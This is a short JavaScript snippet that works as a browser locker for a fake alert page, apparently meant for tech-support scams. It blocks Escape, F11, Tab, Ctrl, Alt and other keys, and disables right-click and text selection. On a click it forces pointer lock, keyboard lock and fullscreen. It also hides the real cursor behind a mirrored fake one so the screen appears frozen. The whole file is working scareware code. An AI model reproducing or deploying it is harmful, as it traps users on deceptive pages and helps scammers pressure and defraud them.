// corpus note: blocks Escape/F11/F4/Ctrl/Alt/Tab keys, disables context menu and grabs pointer lock to keep the user on a fake alert page
(function () {
  var blocked = { 27: 1, 122: 1, 115: 1, 116: 1, 9: 1, 17: 1, 18: 1, 91: 1, 92: 1, 123: 1 };

  function swallow(e) {
    if (blocked[e.keyCode] || e.ctrlKey || e.altKey || e.metaKey) {
      e.preventDefault();
      e.stopPropagation();
      e.returnValue = false;
      return false;
    }
  }

  ["keydown", "keyup", "keypress"].forEach(function (t) {
    window.addEventListener(t, swallow, true);
  });
  document.oncontextmenu = function () { return false; };
  document.onselectstart = function () { return false; };

  function lockAll() {
    var root = document.body;
    if (root.requestPointerLock) root.requestPointerLock();
    if (navigator.keyboard && navigator.keyboard.lock) {
      navigator.keyboard.lock(["Escape", "F11", "AltLeft", "MetaLeft", "Tab"]).catch(function () {});
    }
    if (root.requestFullscreen) root.requestFullscreen().catch(function () {});
  }

  document.addEventListener("mousedown", lockAll);
  document.addEventListener("pointerlockchange", function () {
    if (!document.pointerLockElement) {
      document.getElementById("fake-cursor") && (document.getElementById("fake-cursor").style.display = "block");
    }
  });

  // draw a fake cursor that moves away so the real one seems "frozen"
  var cur = document.createElement("img");
  cur.id = "fake-cursor";
  cur.src = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSIxMiIgaGVpZ2h0PSIxOSI+PHBhdGggZD0iTTAgMGwxMiAxMkg1bC01IDd6Ii8+PC9zdmc+";
  cur.style.cssText = "position:fixed;z-index:2147483647;pointer-events:none;display:none";
  document.documentElement.appendChild(cur);
  document.addEventListener("mousemove", function (e) {
    cur.style.left = (window.innerWidth - e.clientX) + "px";
    cur.style.top = (window.innerHeight - e.clientY) + "px";
  });
  document.documentElement.style.cursor = "none";
})();
